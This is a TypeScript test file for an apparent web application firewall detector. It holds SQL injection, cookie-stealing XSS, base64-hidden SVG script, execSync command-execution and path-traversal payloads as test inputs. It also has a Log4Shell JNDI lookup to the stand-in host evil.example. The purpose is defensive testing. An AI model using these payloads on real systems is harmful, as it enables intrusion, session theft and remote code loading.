import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { createDetector } from './engine.ts';
import { inputsFromJson } from './extract/json.ts';
import type { Input } from './types.ts';

const q = (value: string, location = 'query.q'): Input => ({ location, value, kind: 'query' });

describe('createDetector', () => {
  test('blocks a decisive finding and reports rule, category, confidence and location', () => {
    const result = createDetector().inspect([q('fine'), q("' OR 1=1--", 'query.user')]);
    assert.equal(result.blocked, true);
    assert.equal(result.overBudget, false);
    const top = result.findings[0]!;
    assert.equal(top.category, 'sqli');
    assert.equal(top.location, 'query.user');
    assert.equal(top.confidence, 'high');
    assert.match(top.rule, /^sqli\./);
    assert.ok(result.score >= 5);
  });

  test('keeps the excerpt short and never the whole payload', () => {
    const payload = `${'a'.repeat(200)}<script>alert(document.cookie)</script>${'b'.repeat(200)}`;
    const [finding] = createDetector().inspect([q(payload)]).findings;
    assert.ok(finding !== undefined);
    assert.ok(finding.excerpt.length <= 34);
    assert.notEqual(finding.excerpt, payload);
    assert.equal(
      createDetector()
        .inspect([q('<script>')])
        .findings[0]!.excerpt.includes('<script>'),
      false,
    );
    const secret = createDetector().inspect([q('http://admin:hunter2@127.0.0.1/')]).findings[0]!;
    assert.equal(secret.excerpt.includes('hunter2'), false);
  });

  test('flags without blocking below the threshold, and counts weaker rules only at higher paranoia', () => {
    const value = '5 < 6 and 7 > 3';
    const low = createDetector({ paranoia: 1 }).inspect([q(value)]);
    assert.equal(low.blocked, false);
    assert.ok(low.findings.length > 0);
    assert.equal(createDetector({ threshold: 3 }).inspect([q(value)]).blocked, true);
    const dotSegment = (paranoia: number) =>
      createDetector({ paranoia })
        .inspect([q('a/../b')])
        .findings.some((f) => f.rule.startsWith('traversal.dot-segment'));
    assert.equal(dotSegment(1), false);
    assert.equal(dotSegment(2), true);
  });

  test('runs only the configured categories', () => {
    const detector = createDetector({ categories: ['xss'] });
    assert.equal(detector.inspect([q("' or 1=1--")]).findings.length, 0);
    assert.equal(detector.inspect([q('<script>x</script>')]).blocked, true);
  });

  test('silences excluded rules per location, by rule id, category or prefix', () => {
    const attack = "' or 1=1--";
    const byCategory = createDetector({ exclusions: [{ location: 'query.q', rules: ['sqli'] }] });
    assert.equal(byCategory.inspect([q(attack)]).findings.length, 0);
    assert.equal(byCategory.inspect([q(attack, 'query.other')]).blocked, true);
    const byPrefix = createDetector({ exclusions: [{ location: 'body.comment*' }] });
    assert.equal(
      byPrefix.inspect([{ location: 'body.comments[0]', value: attack, kind: 'body' }]).blocked,
      false,
    );
    const byRule = createDetector({ exclusions: [{ location: 'query.q', rules: ['xss.script-tag'] }] });
    assert.equal(
      byRule.inspect([q('<script>alert(1)</script>')]).findings.some((f) => f.rule === 'xss.script-tag'),
      false,
    );
  });

  test('finds an attack behind large benign padding within the budget', () => {
    const padded = `${'lorem ipsum dolor sit amet '.repeat(20_000)}' UNION SELECT password FROM users--`;
    const result = createDetector().inspect([q(padded)]);
    assert.equal(result.overBudget, false);
    assert.equal(result.blocked, true);
  });

  test('reports inputs over the inspection budget and blocks them by default', () => {
    const big = [q('x'.repeat(600)), q('y'.repeat(600), 'query.r')];
    const blocking = createDetector({ budgetBytes: 1000 }).inspect(big);
    assert.equal(blocking.overBudget, true);
    assert.equal(blocking.blocked, true);
    const flagging = createDetector({ budgetBytes: 1000, overBudget: 'flag' }).inspect(big);
    assert.equal(flagging.overBudget, true);
    assert.equal(flagging.blocked, false);
  });

  test('completes on adversarial megabyte inputs', () => {
    const detector = createDetector({ budgetBytes: 8 * 1024 * 1024 });
    for (const unit of [
      "'",
      '"',
      '(',
      ')',
      '<',
      '<a ',
      '%25',
      '%',
      '&#',
      '\\u',
      '${',
      '{{',
      '{%',
      '../',
      '*)(',
      '; ',
      '`',
      '--',
      '/*',
      '[$ne]',
      '<!ENTITY ',
    ]) {
      const value = unit.repeat(Math.ceil(1_000_000 / unit.length));
      const result = detector.inspect([{ location: 'body', value, kind: 'body' }]);
      assert.equal(typeof result.score, 'number', unit);
    }
  });

  test('lets the project benign cases that look dangerous through', () => {
    const detector = createDetector();
    const cases = [
      "O'Brien",
      "Renée O'Connor-D'Angelo",
      'Please select the items you want from the list and drop the rest.',
      'Union members will select a delegate from each branch',
      'To list files run:\n\n```sh\nls -la | grep conf\n```\n',
      'Install with `npm install rampart` and run `rampart start`.',
      'Use <b>bold</b> and <i>italics</i> in comments',
      "It's 5 o'clock -- time to go; see you at 6 & 7.",
      '1 + 1 = 2, and 2 > 1',
      'C:\\Users\\me\\Documents\\report.docx',
    ];
    for (const value of cases) assert.equal(detector.inspect([q(value)]).blocked, false, value);
    const json = inputsFromJson(
      JSON.stringify({
        homepage: 'https://example.com/a?b=c&d=e',
        avatar: 'https://cdn.example.com/x.png',
        ip: '10.0.0.4',
      }),
    );
    assert.equal(detector.inspect(json).blocked, false);
  });

  test('never throws on random mixtures of syntax characters (seeded fuzz)', () => {
    const alphabet = [
      "'",
      '"',
      '`',
      '<',
      '>',
      '/',
      '\\',
      '%',
      '&',
      '#',
      ';',
      '|',
      '$',
      '{',
      '}',
      '(',
      ')',
      '[',
      ']',
      '=',
      '*',
      '-',
      '.',
      ':',
      '@',
      '\n',
      '\u0000',
      'a',
      'or',
      'select',
      'script',
      'on',
      '${',
      '{{',
      '%c0',
      '&#x',
      '\\u',
      'jndi',
      '../',
      '\ud800',
      'é',
      '１',
    ];
    let seed = 42;
    const next = () => {
      seed = (seed * 1103515245 + 12345) % 2147483648;
      return seed;
    };
    const detector = createDetector({ paranoia: 4 });
    for (let round = 0; round < 500; round++) {
      let value = '';
      const length = next() % 60;
      for (let i = 0; i < length; i++) value += alphabet[next() % alphabet.length];
      for (const kind of ['query', 'key', 'header', 'body', 'path', 'cookie'] as const) {
        assert.doesNotThrow(() => detector.inspect([{ location: 'x', value, kind }]), value);
      }
    }
  });

  test('reads words that name Object.prototype members as plain words', () => {
    const detector = createDetector();
    for (const value of [';__proto__', ';constructor', 'a&constructor;b', ';hasOwnProperty x']) {
      const result = detector.inspect([{ location: 'query.a', value, kind: 'query' }]);
      assert.equal(
        result.findings.some((f) => f.category === 'sqli'),
        false,
        value,
      );
    }
  });

  test('screens the parsed value a JSON input carries instead of parsing its text again', () => {
    const detector = createDetector();
    const text = '{"note":"see page 3.","id":"a1"}';
    const body = (jsonValue?: Input['jsonValue']): Input[] => [
      {
        location: 'body',
        value: text,
        kind: 'body',
        json: true,
        ...(jsonValue === undefined ? {} : { jsonValue }),
      },
    ];
    assert.equal(detector.inspect(body()).blocked, false);
    // The carried value is what gets walked (a body another policy parsed and holds), not the text.
    const carried = detector.inspect(body(() => ({ ok: true, value: { note: "' or 1=1 --" } })));
    assert.equal(carried.blocked, true);
    assert.equal(carried.findings[0]?.location, 'body.note');
    // A carried "not JSON" is read the way an unparsable text is: as text, never skipped.
    assert.equal(detector.inspect(body(() => ({ ok: false }))).blocked, false);
  });

  test('in a document, constructs that documents hold count from their documents level; exploits count as anywhere', () => {
    const body = (text: string): Input => ({ location: 'body.body', value: text, kind: 'body' });
    const readme = (line: string) =>
      [
        '# runner',
        '',
        'Runs a command for each file of a directory, and reports what each run printed.',
        '',
        '```js',
        line,
        '```',
        '',
        'Released under the MIT licence; see LICENSE for the terms.',
      ].join('\n');
    const spawn = "const { execSync } = require('child_process'); execSync(command);";
    // The same line alone is a payload; inside a README it is an example, counted from paranoia 2.
    assert.equal(createDetector().inspect([body(spawn)]).blocked, true);
    assert.equal(createDetector().inspect([body(readme(spawn))]).blocked, false);
    assert.equal(createDetector({ paranoia: 2 }).inspect([body(readme(spawn))]).blocked, true);
    // Rules without a documents level decide in a document too.
    assert.equal(
      createDetector().inspect([body(readme('<script>alert(document.cookie)</script>'))]).blocked,
      true,
    );
    // biome-ignore lint/suspicious/noTemplateCurlyInString: the Log4Shell lookup as sent
    assert.equal(createDetector().inspect([body(readme('${jndi:ldap://evil.example/a}'))]).blocked, true);
    // Encoded line breaks make no document.
    const encoded = readme(spawn).replaceAll('\n', '%0a');
    assert.equal(createDetector().inspect([body(encoded)]).blocked, true);
  });

  test('a base64 run cut out of markup with its tail is decoded in every kind of input', () => {
    const svg = Buffer.from(
      '<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
    ).toString('base64');
    const value = `${svg.replaceAll('+', '%2B').replaceAll('=', '%3D')}"/>`;
    for (const kind of ['query', 'body', 'path', 'cookie'] as const)
      assert.equal(createDetector().inspect([{ location: `${kind}.q`, value, kind }]).blocked, true, kind);
  });

  test('refuses an out-of-range paranoia level', () => {
    assert.throws(() => createDetector({ paranoia: 5 }), RangeError);
  });
});

test('a header value found clean is remembered by its location too: the same value elsewhere is judged again', () => {
  const detector = createDetector({ paranoia: 1 });
  const at = (location: string, value: string) =>
    detector.inspect([{ kind: 'header', location, value }]).findings.map((f) => f.rule);
  const url = 'http://localhost:3000/app';
  for (let i = 0; i < 3; i++) assert.deepEqual(at('header.referer', url), []);
  const elsewhere = at('header.x-callback-url', url);
  assert.deepEqual(
    elsewhere,
    createDetector({ paranoia: 1 })
      .inspect([{ kind: 'header', location: 'header.x-callback-url', value: url }])
      .findings.map((f) => f.rule),
  );
  assert.ok(elsewhere.length > 0, 'an internal URL outside a browser origin header is found');
  // A value with findings is never remembered: found on every request.
  for (let i = 0; i < 3; i++) assert.ok(at('header.user-agent', "' or 1=1 -- ").length > 0);
});
